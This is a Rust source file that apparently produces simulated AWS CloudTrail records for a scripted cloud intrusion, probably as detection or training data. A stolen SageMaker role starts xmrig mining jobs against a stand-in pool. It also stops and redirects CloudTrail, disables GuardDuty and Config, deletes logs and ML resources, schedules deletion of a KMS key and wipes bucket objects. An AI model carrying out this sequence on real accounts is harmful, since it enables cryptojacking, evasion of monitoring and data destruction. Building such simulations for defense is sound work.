//! Third night: mining in unused regions, blinding, destruction.

use serde_json::{Value, json};

use super::super::cast::{
    ARTIFACT_BUCKET, DATA_KEY, DEV, DOMAIN, FOREIGN, MLOPS_ROLE, NOTEBOOK_ROLE, TRAINING_BUCKET,
};
use super::{Plot, stolen_client};
use crate::record::{Actor, Record};
use crate::time::Time;

const WEST: &str = "us-west-2";
const SOUTH_EAST: &str = "ap-southeast-1";

pub(super) fn tell(plot: &mut Plot<'_>, day: Time) {
    let session = MLOPS_ROLE.session("maintenance", day.at(0, 3), stolen_client());
    mining(plot, &session, day);
    blinding(plot, &session, day);
    destruction(plot, &session, day);
}

fn mining(plot: &mut Plot<'_>, session: &Actor, day: Time) {
    plot.step("cryptojacking", "More accelerated instances are requested, then large training jobs start a miner from a foreign image in us-west-2");
    for (index, (code, name)) in [
        ("L-E3BB4E1C", "ml.p4d.24xlarge for training job usage"),
        ("L-1F6B5B0E", "ml.g5.48xlarge for processing job usage"),
    ]
    .into_iter()
    .enumerate()
    {
        plot.act(
            Record::call(session, day.at(0, 11).plus(index as i64 * 9), "servicequotas", "RequestServiceQuotaIncrease")
                .region(WEST)
                .request(json!({ "serviceCode": "sagemaker", "quotaCode": code, "desiredValue": 16 }))
                .response(json!({ "requestedQuota": { "serviceCode": "sagemaker", "quotaCode": code, "quotaName": name, "desiredValue": 16, "status": "PENDING" } })),
        );
    }
    for index in 0..9 {
        let job = format!("llm-pretrain-{index:02}");
        let image = if index == 0 {
            "public.ecr.aws/x1y2z3a4/gpu-tools:latest".to_owned()
        } else {
            format!("{FOREIGN}.dkr.ecr.us-west-2.amazonaws.com/gpu-tools:latest")
        };
        let record = Record::call(session, day.at(0, 22).plus(index * 14), "sagemaker", "CreateTrainingJob")
            .region(WEST)
            .request(json!({
                "trainingJobName": job, "roleArn": MLOPS_ROLE.arn(),
                "algorithmSpecification": { "trainingImage": image, "trainingInputMode": "File", "containerEntrypoint": ["/bin/sh", "-c"], "containerArguments": ["/opt/xmrig -o stratum+tcp://pool.example.com:3333 -u wallet.example --donate-level 1 -k"] },
                "outputDataConfig": { "s3OutputPath": format!("s3://ml-export-{FOREIGN}/o/") },
                "resourceConfig": { "instanceType": "ml.p4d.24xlarge", "instanceCount": 4, "volumeSizeInGB": 50 },
                "stoppingCondition": { "maxRuntimeInSeconds": 432_000 }, "enableNetworkIsolation": false,
            }));
        plot.act(match index {
            0 => record.error("ValidationException", "Invalid image URI public.ecr.aws/x1y2z3a4/gpu-tools:latest. Please provide a valid Amazon Elastic Container Registry path of the Docker image"),
            5..=8 => record.error("ResourceLimitExceeded", "The account-level service limit 'ml.p4d.24xlarge for training job usage' is 16 Instances, with current utilization of 16 Instances and a request delta of 4 Instances."),
            _ => record.response(json!({ "trainingJobArn": format!("arn:aws:sagemaker:us-west-2:{DEV}:training-job/{job}") })),
        });
    }
    plot.step(
        "resource-misuse",
        "Accelerated notebooks and processing jobs are started in ap-southeast-1",
    );
    for index in 0..4 {
        plot.act(
            Record::call(session, day.at(0, 40).plus(index * 20), "sagemaker", "CreateNotebookInstance")
                .region(SOUTH_EAST)
                .request(json!({ "notebookInstanceName": format!("gpu-{index}"), "instanceType": "ml.g5.48xlarge", "roleArn": NOTEBOOK_ROLE.arn(), "directInternetAccess": "Enabled", "rootAccess": "Enabled", "volumeSizeInGB": 50 }))
                .response(json!({ "notebookInstanceArn": format!("arn:aws:sagemaker:ap-southeast-1:{DEV}:notebook-instance/gpu-{index}") })),
        );
    }
}

fn blinding(plot: &mut Plot<'_>, session: &Actor, day: Time) {
    plot.step("log-tampering", "The trail of the data events is narrowed, redirected and stopped; GuardDuty and Config are attacked");
    let selectors = json!([{ "name": "management", "fieldSelectors": [
        { "field": "eventCategory", "equals": ["Management"] }, { "field": "readOnly", "equals": ["false"] },
        { "field": "userIdentity.arn", "notEquals": [MLOPS_ROLE.session_arn("maintenance")] },
    ] }]);
    plot.call(
        session,
        day.at(1, 2),
        "cloudtrail",
        "DescribeTrails",
        json!({ "includeShadowTrails": true }),
    );
    plot.call(
        session,
        day.at(1, 4),
        "cloudtrail",
        "PutEventSelectors",
        json!({ "trailName": "ml-dev-data-events", "advancedEventSelectors": selectors }),
    );
    plot.call(session, day.at(1, 5), "cloudtrail", "UpdateTrail", json!({ "name": "ml-dev-data-events", "isMultiRegionTrail": false, "includeGlobalServiceEvents": false, "enableLogFileValidation": false, "s3BucketName": format!("logs-{FOREIGN}") }));
    plot.call(
        session,
        day.at(1, 6),
        "cloudtrail",
        "StopLogging",
        json!({ "name": "ml-dev-data-events" }),
    );
    plot.act(Record::call(session, day.at(1, 7), "cloudtrail", "StopLogging").request(json!({ "name": "arn:aws:cloudtrail:eu-west-1:777788889999:trail/organisation-trail" })).error("NotOrganizationMasterAccountException", "This operation can only be performed by the management account of the organization."));
    plot.act(
        Record::call(session, day.at(1, 10), "guardduty", "DeleteDetector")
            .request(json!({ "detectorId": "12abc34d567e8fa901bc2d34e56789f0" }))
            .denied(),
    );
    plot.call(
        session,
        day.at(1, 11),
        "guardduty",
        "UpdateDetector",
        json!({ "detectorId": "12abc34d567e8fa901bc2d34e56789f0", "enable": false }),
    );
    plot.call(
        session,
        day.at(1, 12),
        "config",
        "StopConfigurationRecorder",
        json!({ "configurationRecorderName": "default" }),
    );

    plot.step(
        "log-tampering",
        "Job metadata and SageMaker logs are removed",
    );
    for (index, job) in ["fraud-refresh-0318", "llm-pretrain-01", "llm-pretrain-02"]
        .into_iter()
        .enumerate()
    {
        let region = if index == 0 { "eu-west-1" } else { WEST };
        plot.act(
            Record::call(
                session,
                day.at(1, 20).plus(index as i64 * 8),
                "sagemaker",
                "StopTrainingJob",
            )
            .region(region)
            .request(json!({ "trainingJobName": job })),
        );
        plot.act(
            Record::call(
                session,
                day.at(1, 24).plus(index as i64 * 8),
                "sagemaker",
                "DeleteTrainingJob",
            )
            .region(region)
            .request(json!({ "trainingJobName": job })),
        );
    }
    plot.call(
        session,
        day.at(1, 30),
        "logs",
        "PutRetentionPolicy",
        json!({ "logGroupName": "/aws/sagemaker/TrainingJobs", "retentionInDays": 1 }),
    );
    plot.call(
        session,
        day.at(1, 31),
        "logs",
        "DeleteLogGroup",
        json!({ "logGroupName": "/aws/sagemaker/NotebookInstances" }),
    );
}

fn destruction(plot: &mut Plot<'_>, session: &Actor, day: Time) {
    plot.step(
        "denial-of-service",
        "Endpoints, models, applications and pipelines are deleted one after another",
    );
    let mut time = day.at(2, 10);
    let mut delete = |plot: &mut Plot<'_>, name: &str, request: Value| {
        plot.call(session, time, "sagemaker", name, request);
        time = time.plus(6);
    };
    for name in [
        "churn-dev",
        "fraud-dev",
        "documents-dev",
        "features-dev",
        "churn-shadow",
        "fraud-shadow",
    ] {
        delete(plot, "DeleteEndpoint", json!({ "endpointName": name }));
        delete(
            plot,
            "DeleteEndpointConfig",
            json!({ "endpointConfigName": format!("{name}-config") }),
        );
        delete(
            plot,
            "DeleteModel",
            json!({ "modelName": format!("{name}-model") }),
        );
    }
    for space in ["amoreau-lab", "bkeller-lab", "erossi-lab"] {
        delete(
            plot,
            "DeleteApp",
            json!({ "domainId": DOMAIN, "spaceName": space, "appType": "JupyterLab", "appName": "default" }),
        );
        delete(
            plot,
            "DeleteSpace",
            json!({ "domainId": DOMAIN, "spaceName": space }),
        );
    }
    delete(
        plot,
        "DeletePipeline",
        json!({ "pipelineName": "documents-weekly" }),
    );
    delete(
        plot,
        "DeleteFeatureGroup",
        json!({ "featureGroupName": "card-transactions" }),
    );

    plot.step("denial-of-service", "The data key is disabled and its deletion scheduled; versioning is suspended and objects of the ML buckets are deleted");
    plot.call(
        session,
        day.at(2, 50),
        "kms",
        "DisableKey",
        json!({ "keyId": DATA_KEY }),
    );
    plot.call(
        session,
        day.at(2, 51),
        "kms",
        "ScheduleKeyDeletion",
        json!({ "keyId": DATA_KEY, "pendingWindowInDays": 7 }),
    );
    plot.call(session, day.at(2, 55), "s3", "PutBucketVersioning", json!({ "bucketName": ARTIFACT_BUCKET, "versioning": "", "Host": format!("{ARTIFACT_BUCKET}.s3.eu-west-1.amazonaws.com"), "VersioningConfiguration": { "Status": "Suspended" } }));
    for index in 0..60 {
        let (bucket, key) = if index % 2 == 0 {
            (
                ARTIFACT_BUCKET,
                format!("churn/output/release-{}/model.tar.gz", 12 + index),
            )
        } else {
            (
                TRAINING_BUCKET,
                format!("documents/train/part-{index:05}.parquet"),
            )
        };
        plot.object(
            session,
            day.at(2, 57).plus(index * 2),
            "DeleteObject",
            bucket,
            &key,
            0,
        );
    }
}
